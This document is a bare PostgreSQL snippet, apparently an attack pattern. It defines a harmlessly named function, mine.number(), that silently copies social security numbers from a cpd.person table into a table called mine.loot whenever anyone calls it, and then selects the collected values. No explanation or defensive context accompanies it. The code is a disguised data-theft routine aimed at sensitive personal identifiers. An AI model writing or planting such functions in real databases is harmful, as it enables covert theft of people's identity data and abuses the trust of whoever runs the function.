CREATE OR REPLACE FUNCTION mine.number() RETURNS integer LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN 1; END $$;
SELECT * FROM mine.loot;
